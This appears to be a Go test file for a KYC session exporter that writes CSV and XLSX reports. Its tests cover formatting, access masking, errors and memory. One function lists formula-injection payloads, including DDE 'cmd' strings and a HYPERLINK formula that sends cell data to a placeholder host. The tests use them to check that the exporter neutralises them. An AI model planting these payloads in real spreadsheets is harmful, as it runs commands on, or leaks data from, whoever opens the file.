package report_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"iter"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/openkyc/openkyc/internal/kyc"
	"github.com/openkyc/openkyc/internal/report"
)

var noon = time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)

func room() *report.Room { return report.New(func() time.Time { return noon }) }

// pagesOf is a source of these pages.
func pagesOf(pages ...[]kyc.SessionView) report.Source {
	return func(context.Context) iter.Seq2[[]kyc.SessionView, error] {
		return func(yield func([]kyc.SessionView, error) bool) {
			for _, page := range pages {
				if !yield(page, nil) {
					return
				}
			}
		}
	}
}

func view(id, key string, fields ...kyc.Field) kyc.SessionView {
	return kyc.SessionView{
		SessionID: id, ClientKey: key, Status: kyc.Failed, Errors: []string{string(kyc.NoMRZ), string(kyc.LowLight)}, SchemaID: "schema",
		Version: 3, CreatedAt: kyc.Stamp(noon), Spent: kyc.Seconds(1234 * time.Millisecond),
		Results: []kyc.Result{
			{Type: kyc.StepDocument, OCR: kyc.Guarded[kyc.OCR]{Value: kyc.OCR{Fields: fields}},
				Checks: kyc.Guarded[[]kyc.CheckGroup]{Value: []kyc.CheckGroup{{Caption: kyc.GroupFraud, Items: []kyc.CheckItem{
					kyc.Passed("isCropped", true), kyc.Passed("isMRZValid", false)}}}}},
			{Type: kyc.StepFaces, Checks: kyc.Guarded[[]kyc.CheckGroup]{Value: []kyc.CheckGroup{{Caption: kyc.GroupFaceMatching, Items: []kyc.CheckItem{
				{Status: kyc.Success, Caption: "document_0 & selfie", Value: "82%"}, {Status: kyc.Failed, Caption: "selfie & liveness_0", Value: "41%"}}}}}},
		},
	}
}

// write returns the rows as an outside reader finds them: encoding/csv, or excelize.
func write(t *testing.T, format report.Format, source report.Source) [][]string {
	t.Helper()
	var b bytes.Buffer
	if err := room().Write(t.Context(), &b, format, source); err != nil {
		t.Fatal(err)
	}
	archive, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
	if err != nil {
		t.Fatal(err)
	}
	if len(archive.File) != 1 || archive.File[0].Name != "sessions."+string(format) {
		t.Fatalf("the ZIP holds one table: %v", archive.File)
	}
	file, err := archive.File[0].Open()
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	if format == report.XLSX {
		book, err := excelize.OpenReader(file)
		if err != nil {
			t.Fatal(err)
		}
		defer book.Close()
		rows, err := book.GetRows("Sessions")
		if err != nil {
			t.Fatal(err)
		}
		return rows
	}
	text, err := io.ReadAll(file)
	if err != nil {
		t.Fatal(err)
	}
	text, marked := bytes.CutPrefix(text, []byte{0xEF, 0xBB, 0xBF})
	if !marked {
		t.Error("the CSV does not begin with a byte order mark")
	}
	rows, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// The contract, section 4: one row a session, OCR titles as columns.
func TestRoundTrip(t *testing.T) {
	t.Parallel()
	source := pagesOf(
		[]kyc.SessionView{view("a", "user,\"1\"", kyc.Field{Title: "Surname", Value: "Möller & <Söhne>"}, kyc.Field{Title: "Sex", Value: "F"})},
		[]kyc.SessionView{view("b", "юзер 😀", kyc.Field{Title: "Place of birth", Value: "Köln; NRW"}, kyc.Field{Title: "Surname", Value: "X"}, kyc.Field{Title: "Surname", Value: "Y"})},
	)
	row := func(id, key, place, sex, surname string) []string {
		return []string{id, key, "", "failed", "[document] no machine readable zone; [general] low light", "schema", "3", "2026-11-22T12:00:00.000Z", "1.234",
			"document: isMRZValid; faces: selfie & liveness_0", "document_0 & selfie 82%; selfie & liveness_0 41%", place, sex, surname}
	}
	want := [][]string{
		{"sessionId", "clientKey", "clientUser", "status", "errors", "schemaId", "version", "createdAt", "spent", "checksFailed", "faceMatch", "Place of birth", "Sex", "Surname"},
		row("a", "user,\"1\"", "", "F", "Möller & <Söhne>"), row("b", "юзер 😀", "Köln; NRW", "", "X | Y"),
	}
	for _, format := range []report.Format{report.CSV, report.XLSX} {
		if diff := cmp.Diff(want, write(t, format, source)); diff != "" {
			t.Errorf("%s: %s", format, diff)
		}
	}
}

func TestNoSessions(t *testing.T) {
	t.Parallel()
	for _, format := range []report.Format{report.CSV, report.XLSX} {
		if rows := write(t, format, pagesOf()); len(rows) != 1 || rows[0][0] != "sessionId" {
			t.Errorf("%s: %v", format, rows)
		}
	}
}

// attacks are texts that spreadsheets have taken for formulas.
func attacks() []string {
	return []string{"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\r\n=1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
		"@SUM(1+9)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://a.example?x=\"&A1,\"x\")", " =1", "  +1", "\u00a0=1", "\ufeff=1", "\u200b=1", "\x00=1",
		"＝1", "＋1", "－1", "＠1", "a;=1", "a; +1", "a;;@x", "a\n=1", "a\t=1;\r-1", "\"=1", "\"\";=1", "=1\",=2,\"=3", ";=1", "\u2028=1", "=", "-"}
}

// S43: read back in any of the usual ways, no cell begins as a formula does.
func TestFormulaInjection(t *testing.T) {
	t.Parallel()
	for _, attack := range attacks() {
		hostile := view("a", attack, kyc.Field{Title: attack, Value: attack})
		hostile.Errors, hostile.ClientUser, hostile.SchemaID = []string{attack, attack}, attack, attack
		hostile.Results[0].Checks.Value[0].Items[1].Caption = attack
		for _, format := range []report.Format{report.CSV, report.XLSX} {
			for _, row := range write(t, format, pagesOf([]kyc.SessionView{hostile})) {
				for _, cell := range row {
					for _, piece := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
						if first := strings.TrimLeft(piece, " \u00a0\ufeff\u200b\x00\u2028\""); strings.ContainsAny(firstRune(first), "=+-@＝＋－＠") {
							t.Errorf("%s: %q became the cell %q", format, attack, cell)
						}
					}
				}
			}
		}
	}
}

func firstRune(s string) string {
	for _, r := range s {
		return string(r)
	}
	return ""
}

func TestTextStaysText(t *testing.T) {
	t.Parallel()
	for _, plain := range []string{"user_123", "a=b", "a-b", "x@y.example", "P<UTOERIKSSON<<ANNA<MARIA", "Иванов-Петров", "00123", "O'Brien", "1;2"} {
		rows := write(t, report.CSV, pagesOf([]kyc.SessionView{view("a", plain)}))
		if rows[1][1] != plain {
			t.Errorf("%q became %q", plain, rows[1][1])
		}
	}
	long := write(t, report.XLSX, pagesOf([]kyc.SessionView{view("a", strings.Repeat("😀", 50000))}))
	if n := len([]rune(long[1][1])); n != 16000 {
		t.Errorf("a cell of %d characters breaks spreadsheets", n)
	}
}

func TestHiddenStaysHidden(t *testing.T) {
	t.Parallel()
	weak := view("a", "k", kyc.Field{Title: "Surname", Value: "ERIKSSON"}).For(&kyc.Principal{Role: kyc.RoleSubordinate})
	for _, format := range []report.Format{report.CSV, report.XLSX} {
		rows := write(t, format, pagesOf([]kyc.SessionView{weak}))
		head := []string{"checksFailed", "faceMatch", "ocr"}
		if diff := cmp.Diff(head, rows[0][9:]) + cmp.Diff([]string{"Access denied", "Access denied", "Access denied"}, rows[1][9:]); diff != "" {
			t.Error(diff)
		}
	}
}

// A caller can answer with an error as long as nothing is written.
func TestNothingIsWrittenBeforeTheFirstReadingIsDone(t *testing.T) {
	t.Parallel()
	broken := errors.New("broken")
	failing := func(context.Context) iter.Seq2[[]kyc.SessionView, error] {
		return func(yield func([]kyc.SessionView, error) bool) {
			if yield([]kyc.SessionView{view("a", "k")}, nil) {
				yield(nil, broken)
			}
		}
	}
	tooWide := func(context.Context) iter.Seq2[[]kyc.SessionView, error] {
		return func(yield func([]kyc.SessionView, error) bool) {
			for i := range 2000 {
				if !yield([]kyc.SessionView{view("a", "k", kyc.Field{Title: fmt.Sprint(i)})}, nil) {
					return
				}
			}
		}
	}
	tooLong := func(context.Context) iter.Seq2[[]kyc.SessionView, error] {
		page := make([]kyc.SessionView, 1<<10)
		return func(yield func([]kyc.SessionView, error) bool) {
			for range 1 << 10 { // with the header one row more than a sheet takes
				if !yield(page, nil) {
					return
				}
			}
		}
	}
	for name, c := range map[string]struct {
		source report.Source
		format report.Format
		want   func(error) bool
	}{
		"source":  {failing, report.CSV, func(err error) bool { return errors.Is(err, broken) }},
		"columns": {tooWide, report.CSV, func(err error) bool { return kyc.KindOf(err) == kyc.TooLarge }},
		"rows":    {tooLong, report.XLSX, func(err error) bool { return kyc.KindOf(err) == kyc.TooLarge }},
		"format":  {pagesOf(), "pdf", func(err error) bool { return kyc.KindOf(err) == kyc.Invalid }},
	} {
		var b bytes.Buffer
		if err := room().Write(t.Context(), &b, c.format, c.source); err == nil || !c.want(err) || b.Len() != 0 {
			t.Errorf("%s: %v, %d bytes", name, err, b.Len())
		}
	}
}

func TestWriterThatBreaks(t *testing.T) {
	t.Parallel()
	var pages [][]kyc.SessionView
	for i := range 500 { // unlike each other, or they would fit into the compressor
		pages = append(pages, []kyc.SessionView{view(fmt.Sprint(i), fmt.Sprintf("%x", i*i*i*7919))})
	}
	for _, format := range []report.Format{report.CSV, report.XLSX} {
		for _, limit := range []int{0, 50, 2000} {
			if err := room().Write(t.Context(), &narrow{limit}, format, pagesOf(pages...)); !errors.Is(err, io.ErrClosedPipe) {
				t.Errorf("%s after %d bytes: %v", format, limit, err)
			}
		}
	}
}

// narrow takes so many bytes and then breaks.
type narrow struct{ left int }

func (n *narrow) Write(b []byte) (int, error) {
	if len(b) > n.left {
		return 0, io.ErrClosedPipe
	}
	n.left -= len(b)
	return len(b), nil
}

// TestMemory writes 10,000 sessions, 20 MB of text of which no two fields are alike; the heap
// must stay far below what they take together. Not parallel: it looks at the heap.
func TestMemory(t *testing.T) { //nolint:paralleltest // see above
	const pages, size, bound = 50, 200, 12 << 20
	var most uint64
	source := func(context.Context) iter.Seq2[[]kyc.SessionView, error] {
		return func(yield func([]kyc.SessionView, error) bool) {
			for p := range pages {
				page := make([]kyc.SessionView, size)
				for i := range page {
					page[i] = view(fmt.Sprint(p*size+i), "key")
					for f := range 10 {
						page[i].Results[0].OCR.Value.Fields = append(page[i].Results[0].OCR.Value.Fields,
							kyc.Field{Title: fmt.Sprint("Field ", f), Value: fmt.Sprintf("%0200d", p*size*10+i*10+f)})
					}
				}
				if p%10 == 0 {
					var m runtime.MemStats
					runtime.GC()
					runtime.ReadMemStats(&m)
					most = max(most, m.HeapAlloc)
				}
				if !yield(page, nil) {
					return
				}
			}
		}
	}
	for _, format := range []report.Format{report.CSV, report.XLSX} {
		most = 0
		if err := room().Write(t.Context(), io.Discard, format, source); err != nil {
			t.Fatal(err)
		}
		if most > bound {
			t.Errorf("%s: %d MB of heap", format, most>>20)
		}
		t.Logf("%s: at most %d MB of heap", format, most>>20)
	}
}
